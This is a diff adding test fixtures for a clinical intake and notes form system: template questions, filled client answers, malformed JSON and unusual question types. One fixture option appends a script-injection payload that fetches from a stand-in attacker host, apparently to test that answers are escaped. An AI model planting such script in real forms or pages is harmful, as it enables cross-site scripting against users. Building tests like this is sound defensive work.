@@ -111,3 +111,65 @@ def _every_type() -> list[dict[str, Any]]:
         {"name": "Assessment", "type": "text", "answer": "Rotator cuff <irritable>"},
         {"name": "Left blank", "type": "text", "answer": ""},
     ]
+
+
+NOT_JSON = "{'sections': [{'name': 'Details', 'questions': []}"
+LONG_ANSWER = "The stairs at work are the worst of it, and the bus home. " * 180
+"""More than a form's answer may be long."""
+
+
+def signature_id(index: int) -> str:
+    return f"{565805660088820000 + index * 11}{1 + index % 9}"
+
+
+def note_questions(description: str = "<div>Compare <b>both sides</b>.</div>") -> Content:
+    """What a template asks; nothing is answered yet."""
+    return {
+        "sections": [
+            {"name": "Subjective", "questions": [_asked("How has it been?", "paragraph"), _asked("Area", "text")]},
+            {"name": "Objective", "description": description, "questions": [_radio("Pain today", PAIN, ())]},
+        ]
+    }
+
+
+def form_questions() -> Content:
+    return {
+        "sections": [
+            {
+                "name": "About you",
+                "description": "<div>Please answer what you can.</div>",
+                "questions": [
+                    _asked("What brings you here?", "paragraph"),
+                    _asked("Since when?", "date"),
+                    _radio("Pain today", PAIN, ()),
+                    _asked("Signed", "signature"),
+                ],
+            }
+        ]
+    }
+
+
+def odd_question() -> Content:
+    """A kind of question that came after the format was written down."""
+    return {"sections": [{"name": "New", "questions": [_asked("How steep are the stairs?", "slider")]}]}
+
+
+def filled_form(index: int, answer: str, odd: str = "") -> Content:
+    """A client's answers. `odd` names what is difficult about them."""
+    said = answer or f"My {('knee', 'shoulder', 'back')[index % 3]}, when I carry the shopping."
+    if odd == "script":
+        said += "<script>fetch('//evil.example')</script>"
+    questions = [
+        {"name": "What brings you here?", "type": "paragraph", "answer": said},
+        {"name": "Since when?", "type": "date", "answer": f"2024-{1 + index % 12:02d}-{1 + index % 28:02d}"},
+        _radio("Pain today", PAIN, (1, 2) if odd == "two_radios" else (index % len(PAIN),)),
+        {"name": "Signed", "type": "signature", "signature_id": signature_id(index)},
+    ]
+    if odd == "odd_question":
+        questions.append({"name": "How steep are the stairs?", "type": "slider", "answer": "7"})
+    section = {"name": "About you", "description": "<div>Please answer what you can.</div>", "questions": questions}
+    return {"sections": [section]}
+
+
+def _asked(name: str, kind: str) -> dict[str, Any]:
+    return {"name": name, "type": kind, "answer": ""} if kind != "signature" else {"name": name, "type": kind}
